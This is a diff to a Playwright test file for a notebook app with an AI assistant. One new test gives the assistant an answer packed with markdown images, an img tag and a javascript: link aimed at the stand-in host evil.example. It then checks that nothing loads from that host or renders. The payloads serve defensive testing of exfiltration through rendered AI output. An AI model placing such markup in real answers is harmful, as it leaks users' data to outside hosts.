@@ -91,7 +91,16 @@ test('two people see one conversation, and what is sent can be read', async ({
   await other.goto(page.url());
   await openAssistant(other);
   await openAssistant(page);
-  await say(page, 'What is x?\n> say It is one.');
+  // What an answer contains loads nothing from elsewhere and does not leave the page by itself.
+  const outside: string[] = [];
+  for (const each of [page, other])
+    each.on('request', (request) => {
+      if (request.url().includes('evil.example')) outside.push(request.url());
+    });
+  await say(
+    page,
+    'What is x?\n> say It is one. ![x](https://evil.example/?q=x) <img src="https://evil.example/2"> [more](https://evil.example/3) [run](javascript:alert(1)) ![y][z]\\n\\n[z]: https://evil.example/4',
+  );
   await expect(panel(other)).toContainText('It is one.');
   await expect(panel(other)).toContainText('1 round');
   await say(other, '> call insert_cell {"source": "y"}');
@@ -100,6 +109,11 @@ test('two people see one conversation, and what is sent can be read', async ({
   await page.getByRole('button', { name: 'Assistant menu' }).click();
   await page.getByRole('menuitem', { name: 'Show what is sent' }).click();
   await expect(page.getByRole('dialog')).toContainText('What is x?');
+  for (const each of [page, other]) {
+    await expect(panel(each).locator('img[src*="evil.example"]')).toHaveCount(0);
+    await expect(panel(each).locator('a[href^="javascript:"]')).toHaveCount(0);
+  }
+  expect(outside).toEqual([]);
   await page.keyboard.press('Escape');
   await page.getByRole('button', { name: 'Assistant menu' }).click();
   await page.getByRole('menuitem', { name: 'Model and tools' }).click();
@@ -114,7 +128,7 @@ test('code from a sentence in a cell: a diff to accept, an error mended, code ex
   page,
   signedUp: _,
 }) => {
-  await open(page, 'x = 1', '1 / 0');
+  await open(page, 'x = 1', 'import pandas\ndf = pandas.DataFrame({"tide": [1, 2]})\n1 / 0');
   await cell(page, 1).click();
   await page.keyboard.press('Escape');
   await page.keyboard.press('Control+i');
@@ -137,6 +151,23 @@ test('code from a sentence in a cell: a diff to accept, an error mended, code ex
   await expect(assist).toContainText('It divides by zero.');
   await assist.getByRole('button', { name: 'Close' }).click();
   await expect(assist).toHaveCount(0);
+
+  await page.keyboard.press('Control+i');
+  await assist.getByRole('combobox', { name: 'Chart of a table' }).click();
+  await page.getByRole('option', { name: 'df' }).click();
+  await assist.getByRole('textbox', { name: 'What the code should do' }).fill('> say ```python\\ndf.plot()\\n```');
+  await assist.getByRole('button', { name: 'Draw' }).click();
+  await assist.getByRole('button', { name: 'Accept' }).click();
+  await expect(cell(page, 2)).toContainText('df.plot()');
+});
+
+test('publications are searched by a sentence', async ({ page, signedUp: _ }) => {
+  await page.goto('/publications');
+  const field = page.getByRole('searchbox', { name: 'Search publications' });
+  await field.fill('> say {"query": "tides", "tags": ["nowhere"]}');
+  await page.getByRole('button', { name: 'Search by sentence' }).click();
+  await expect(page).toHaveURL(/search=tides$/);
+  expect(await violationsOf(page)).toEqual([]);
 });
 
 test('a whole notebook from a sentence is run as it is built', async ({ page, signedUp: _ }) => {
@@ -154,7 +185,14 @@ test('a whole notebook from a sentence is run as it is built', async ({ page, si
 
 test('an admin sets up models for everyone and checks them', async ({ page, asAdmin: _ }) => {
   await page.goto('/admin/models');
-  await expect(page.getByRole('heading', { name: 'Set up by the operator' })).toBeVisible();
+  const prices = page.getByRole('list', { name: 'Prices' });
+  await expect(prices).toContainText('Set up by the operator');
+  await prices.getByRole('textbox', { name: 'Units for tokens that scripted reads' }).fill('0.5');
+  await prices.getByRole('button', { name: 'Save' }).click();
+  await expect(page.getByText('Price of scripted saved.')).toBeVisible();
+  await prices.getByRole('textbox', { name: 'Units for tokens that scripted reads' }).fill('0');
+  await prices.getByRole('button', { name: 'Save' }).click();
+  await expect(prices.getByRole('button', { name: 'Save' })).toBeDisabled();
   await page.getByRole('combobox', { name: 'Provider' }).click();
   await page.getByRole('option', { name: 'OpenAI-compatible server' }).click();
   await page.getByRole('textbox', { name: 'Name' }).fill('Ours');
